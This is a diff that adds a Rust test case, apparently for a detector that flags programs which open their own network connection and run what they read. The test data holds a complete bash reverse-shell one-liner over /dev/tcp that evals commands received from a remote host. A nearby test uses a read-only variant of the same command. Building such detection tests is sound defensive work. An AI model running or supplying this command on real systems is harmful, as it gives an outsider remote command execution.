@@ -260,6 +260,16 @@ fn a_program_that_connects_by_itself_and_executes_what_it_reads() {
 }
 
 #[test]
+fn a_connection_of_its_own_counts_whoever_started_the_program() {
+    let mut world = World::new();
+    world.exec(INIT, 10, python(), "/usr/bin/python3.11", &["python3", "-c", "import os"], &[]);
+    let text = "exec 3<>/dev/tcp/10.0.0.9/9001; while read -r l <&3; do eval \"$l\" >&3; done";
+    world.exec(10, 11, bash(), "/bin/bash", &["bash", "-c", text], &[]);
+    world.opens(11, &[tcp(3, 50, Connected)]);
+    assert!(world.again(11).is_some());
+}
+
+#[test]
 fn quiet_for_a_program_that_connects_and_reads_only() {
     let mut world = World::new();
     let text = "exec 3<>/dev/tcp/10.0.0.9/9001; head -1 <&3";
